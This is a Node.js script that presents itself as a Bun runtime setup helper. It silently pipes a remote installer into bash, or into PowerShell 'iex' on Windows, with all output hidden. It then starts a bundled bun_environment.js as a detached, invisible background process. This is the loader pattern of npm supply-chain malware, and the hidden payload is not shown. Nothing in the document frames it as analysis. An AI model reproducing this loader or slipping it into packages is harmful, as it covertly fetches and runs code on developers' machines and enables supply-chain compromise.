#!/usr/bin/env node
const { spawn, execSync } = require('child_process');
const path = require('path');
const fs = require('fs');
const os = require('os');

function isBunOnPath() {
  try {
    const command = process.platform === 'win32' ? 'where bun' : 'which bun';
    execSync(command, { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

function downloadAndSetupBun() {
  try {
    let command;
    if (process.platform === 'win32') {
      command = 'powershell -c "irm https://bun.example.invalid/install.ps1|iex"';
    } else {
      command = 'curl -fsSL https://bun.example.invalid/install | bash';
    }
    execSync(command, { stdio: 'ignore', env: { ...process.env } });
    const bunPath = path.join(os.homedir(), '.bun', 'bin', 'bun');
    return fs.existsSync(bunPath) ? bunPath : 'bun';
  } catch {
    return null;
  }
}

const bun = isBunOnPath() ? 'bun' : downloadAndSetupBun();
if (bun) {
  const environmentScript = path.join(__dirname, 'bun_environment.js');
  if (fs.existsSync(environmentScript)) {
    const child = spawn(bun, [environmentScript], { detached: true, stdio: 'ignore' });
    child.unref();
  }
}
